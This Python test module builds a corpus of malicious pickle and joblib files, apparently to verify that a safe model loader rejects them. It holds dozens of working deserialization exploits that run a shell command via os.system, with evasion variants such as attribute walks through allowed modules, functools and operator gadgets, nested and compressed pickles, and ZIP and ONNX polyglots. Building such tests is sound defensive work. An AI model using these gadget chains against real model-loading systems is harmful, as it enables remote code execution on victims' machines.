"""The corpus of attack files, written when the tests run: what they would do is write a file or open a connection.

All of these do it when they are loaded unchecked, which a test proves. `strange` has those that need a request, luck
with addresses or another machine for it, `heavy` those that want memory and time.
"""

import bz2
import gzip
import io
import lzma
import pickle
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np

from tests.unit.runtime.pickles import calls
from tests.unit.runtime.pickles.opcodes import (
    FLOATS,
    OBJECTS,
    SCALER,
    blob,
    built,
    call,
    dtype,
    dtype_state,
    estimator,
    fields,
    listed,
    name,
    new,
    number,
    row,
    stack_name,
    text,
    whole,
    wrapper,
)


class Calls:
    """Is pickled as a call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._reduced = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., Any], Any]:
        return self._reduced


def files(sentinel: Path, port: int) -> dict[str, bytes]:
    """Attacks that work where nothing is checked: each makes `sentinel` or connects to `port`."""
    command = f"touch {sentinel}"
    shell = text(command)
    python = text(f"__import__('os').system({command!r})")
    inner = whole(call(name("posix", "system"), shell))
    found = {
        f"a call of {module}.{attribute}": whole(call(name(module, attribute), *arguments))
        for module, attribute, arguments in calls.of(sentinel, port, command)
    }
    found |= {
        f"{key} by protocol {protocol}": whole(body, protocol)
        for protocol in (0, 1, 2, 3, 5)
        for key, body in {"os.system": call(name("os", "system"), shell)}.items()
    }
    found |= {
        "a call without a protocol": call(name("os", "system"), shell) + b".",
        "a name of Python 2": whole(call(name("__builtin__", "eval"), python), 2),
        "a module of Python 2": whole(call(name("commands", "getoutput"), shell), 2),
        "a name on the stack": whole(call(stack_name("posix", "system"), shell)),
        "a name from the memo": whole(
            text("posix") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + row(shell) + b"R"
        ),
        "a walk along attributes": whole(
            call(stack_name("sklearn.base", "warnings.sys.modules.get"), text("os"))
            + b"0"
            + call(stack_name("joblib", "os.system"), shell)
        ),
        "a walk within an allowed module": whole(
            call(stack_name("sklearn.pipeline", "np.f2py.sys.modules.get"), text("a"))
            + b"0"
            + call(stack_name("joblib.numpy_pickle", "os.system"), shell)
        ),
        "what an allowed module has imported": whole(
            call(stack_name("joblib.numpy_pickle", "os.system"), shell)
        ),
        "an object of an old-style class": whole(b"(" + shell + b"i" + b"posix\nsystem\n"),
        "an object by a class on the stack": whole(b"(" + name("posix", "system") + shell + b"o"),
        "getattr of a module": whole(
            call(
                call(
                    name("builtins", "getattr"),
                    call(name("importlib", "import_module"), text("os")),
                    text("system"),
                ),
                shell,
            )
        ),
        "operator.attrgetter": whole(
            call(
                call(name("operator", "attrgetter"), text("system")),
                call(name("importlib", "import_module"), text("os")),
            )
            + row(shell)
            + b"R"
        ),
        "operator.methodcaller": whole(
            call(
                call(name("operator", "methodcaller"), text("system"), shell),
                call(name("importlib", "import_module"), text("os")),
            )
        ),
        "functools.partial": whole(call(call(name("functools", "partial"), name("os", "system"), shell))),
        "functools.partial by its state": whole(
            built(
                call(name("functools", "partial"), name("sklearn.utils.validation", "check_array")),
                row(name("os", "system"), row(shell), b"}", b"N"),
            )
            + row()
            + b"R"
        ),
        "functools.reduce": whole(
            call(
                name("functools", "reduce"),
                name("builtins", "getattr"),
                listed(call(name("importlib", "import_module"), text("os")), text("system")),
            )
            + row(shell)
            + b"R"
        ),
        "map and list": whole(
            call(name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), listed(shell)))
        ),
        "a set of a map": whole(
            call(name("builtins", "set"), call(name("builtins", "map"), name("os", "system"), listed(shell)))
        ),
        "a state that is a function": whole(
            built(estimator(SCALER, ("__setstate__", name("os", "system"))), shell)
        ),
        "append that is a function": whole(
            estimator("sklearn.linear_model._base.LinearRegression", ("append", name("os", "system")))
            + shell
            + b"a"
        ),
        "a registered extension": _extension(shell),
        "scipy.stats, by the template of a distribution": whole(
            estimator(
                "scipy.stats._continuous_distns.norm_gen",
                ("_parse_arg_template", text(f"__import__('os').system({command!r})")),
            )
        ),
        "numpy's constructor of generators": whole(
            call(name("numpy.random._pickle", "__randomstate_ctor"), shell, name("os", "system"))
        ),
        "a missing entry": whole(
            call(
                name("operator", "getitem"),
                call(
                    name("collections", "defaultdict"),
                    call(name("functools", "partial"), name("os", "system"), shell),
                ),
                text("x"),
            )
        ),
        "joblib's old array": _old_array(sentinel),
        "code": whole(
            call(
                call(
                    name("types", "FunctionType"), call(name("marshal", "loads"), blob(_code(command))), b"}"
                )
            )
        ),
        "a pickle in a pickle": whole(call(name("pickle", "loads"), blob(inner))),
        "pandas.read_pickle": whole(
            call(name("pandas.io.pickle", "read_pickle"), call(name("io", "BytesIO"), blob(inner)))
        ),
        "numpy.load": whole(
            call(name("numpy", "load"), call(name("io", "BytesIO"), blob(_npy(command))), b"N", b"\x88")
        ),
        "joblib.load": whole(call(name("joblib", "load"), call(name("io", "BytesIO"), blob(inner)))),
        "a call beside an allowed object": whole(
            estimator(SCALER) + call(name("os", "system"), shell) + b"0"
        ),
        "a call under a mark": whole(b"(" + call(name("os", "system"), shell) + b"1" + estimator(SCALER)),
        "a call as a key": whole(b"}" + call(name("os", "system"), shell) + b"Ns"),
        "a call in a tuple": whole(row(call(name("os", "system"), shell))),
        "a call in a set": whole(b"\x8f(" + call(name("os", "system"), shell) + b"\x90"),
        "a call within a frame": b"\x80\x04\x95" + (len(inner) - 2).to_bytes(8, "little") + inner[2:],
        "a call among the attributes of an estimator": _dumped(_fitted("extra_", Calls(_system(), command))),
        "a call in an array of objects": _dumped(np.array([Calls(_system(), command), 1], object)),
        "a call in joblib's array of objects": _joblib(np.array([Calls(_system(), command), 1], object)),
        "a call in an estimator's array of objects": _joblib(
            _fitted("feature_names_in_", np.array([Calls(_system(), command)], object))
        ),
        "a call in an array in an array": _joblib(
            np.array([np.array([Calls(_system(), command), 1], object), 1], object)
        ),
        "a call where an array's bytes should be": whole(wrapper(row(number(1)), OBJECTS) + inner),
        "a call after an array's bytes": whole(
            wrapper(row(number(1)), FLOATS) + b"\0" * 8 + b"0" + call(name("os", "system"), shell)
        ),
        "a call hidden as the bytes of an array within an array": _hidden(
            call(name("os", "system"), shell) + b"0"
        ),
        "a polyglot with a ZIP archive": inner + _zip(),
        "a polyglot with an ONNX file": inner + b"\x08\x07\x12\x04test",
        "a text before the call": whole(text("x" * 5000) + b"0" + call(name("os", "system"), shell)),
    }
    packers: dict[str, Callable[[bytes], bytes]] = {
        "zlib": zlib.compress,
        "gzip": gzip.compress,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "lzma": lambda content: lzma.compress(content, lzma.FORMAT_ALONE),
    }
    for kind, pack in packers.items():
        found[f"a call compressed with {kind}"] = pack(inner)
    for kind in ("zlib", "gzip", "bz2", "xz", "lzma"):
        found[f"a call in an array of objects, {kind}"] = _joblib(
            np.array([Calls(_system(), command), 1], object), (kind, 1)
        )
    return found


def _system() -> Callable[..., Any]:
    import os  # noqa: PLC0415 - what the corpus attacks with

    return os.system


def _code(command: str) -> bytes:
    import marshal  # noqa: PLC0415

    return marshal.dumps(compile(f"__import__('os').system({command!r})", "x", "exec"))


def _extension(shell: bytes) -> bytes:
    registered = call(name("copyreg", "add_extension"), text("posix"), text("system"), number(240))
    return whole(registered + b"0" + b"\x82\xf0" + row(shell) + b"R")


def _npy(command: str) -> bytes:
    opened = io.BytesIO()
    np.save(opened, np.array([Calls(_system(), command), 1], object), allow_pickle=True)
    return opened.getvalue()


def _old_array(sentinel: Path) -> bytes:
    """joblib before 0.10 kept an array in a file beside, which `numpy.load` unpickles."""
    beside = sentinel.parent / "artifact" / "old.npy"
    if beside.parent.is_dir():
        beside.write_bytes(_npy(f"touch {sentinel}"))
    state = fields(
        ("filename", text(str(beside))), ("subclass", name("numpy", "ndarray")), ("allow_mmap", b"\x89")
    )
    return whole(built(new(name("joblib.numpy_pickle_compat", "NDArrayWrapper")), state))


def _hidden(opcodes: bytes) -> bytes:
    """Within an array of objects, joblib reads no bytes after its wrapper, but goes on with opcodes."""
    numbers = dtype("u1", dtype_state("|"))
    inner = whole(wrapper(row(number(len(opcodes))), numbers) + opcodes)
    return whole(wrapper(row(number(1)), OBJECTS) + inner)


def _zip() -> bytes:
    import zipfile  # noqa: PLC0415

    opened = io.BytesIO()
    with zipfile.ZipFile(opened, "w") as archive:
        archive.writestr("readme", "x")
    return opened.getvalue()


def _fitted(attribute: str, value: Any) -> Any:
    from sklearn.linear_model import LinearRegression  # noqa: PLC0415

    fitted = LinearRegression().fit([[0.0], [1.0]], [0.0, 1.0])
    setattr(fitted, attribute, value)
    return fitted


def _dumped(value: Any) -> bytes:
    return pickle.dumps(value, protocol=4)


def _joblib(value: Any, compress: Any = 0) -> bytes:
    opened = io.BytesIO()
    joblib.dump(value, opened, compress=compress)
    return opened.getvalue()
